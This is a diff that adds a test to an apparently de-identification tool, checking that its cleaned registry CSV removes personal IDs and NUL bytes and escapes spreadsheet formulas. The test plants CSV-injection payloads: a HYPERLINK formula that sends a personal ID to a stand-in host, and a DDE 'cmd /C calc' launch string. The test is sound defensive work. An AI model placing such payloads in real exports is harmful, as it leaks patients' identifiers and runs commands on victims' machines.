@@ -278,3 +278,44 @@ def test_db_or_view_inside_the_source_by_another_name(deidfs, archive_copy,
             assert not os.path.exists(str(dest))
     finally:
         subprocess.run(["umount", str(alias)])
+
+
+# ------------------------------------------------------ the cleaned CSV
+
+def test_csv_kept_cells_carry_no_id_formula_or_nul(deidfs, archive_copy,
+                                                   tmp_path):
+    """Kept (clinical) columns of the registry: another woman's personal
+    ID, the row's own, a formula a spreadsheet would run, a NUL byte.  The
+    cleaned CSV holds no personal ID in any column, shows formulas as
+    text (a leading apostrophe) and has no NUL; the rows are reported
+    without their values."""
+    arch = archive_copy
+    raw = arch.csv.read_bytes()
+    lines = raw.split(b"\n")
+    fnrs = [w["fnr"] for w in arch.truth["women"]]
+    row = lines[1].split(b";")
+    own = row[0].decode()
+    other = next(f for f in fnrs if f != own)
+    row[3] = b"se " + other.encode()               # another woman
+    row[4] = b"=HYPERLINK(\"http://x/?" + own.encode() + b"\")"
+    row[5] = b"+cmd|' /C calc'!A0"
+    row[7] = b"nul\0byte"
+    row[8] = b"@SUM(1)"
+    lines[1] = b";".join(row)
+    arch.csv.write_bytes(b"\n".join(lines))
+    dest = tmp_path / "out"
+    r = run(deidfs, "export", "--db", tmp_path / "p.db", "--csv", arch.csv,
+            arch.identified, dest)
+    assert r.returncode == 0, r.stderr
+    out = (dest / "cleaned_variables.csv").read_bytes()
+    for f in fnrs:
+        assert f.encode() not in out, f
+    assert b"\0" not in out
+    cells = [c.strip(b'"') for line in out.split(b"\n")
+             for c in line.split(b";")]
+    for c in cells:
+        assert c[:1] not in (b"=", b"+", b"@"), c
+    assert b"'+cmd|' /C calc'!A0" in cells
+    assert b"'@SUM(1)" in cells
+    assert "a personal ID in a kept column: emptied" in r.stderr
+    assert other not in r.stderr and own not in r.stderr
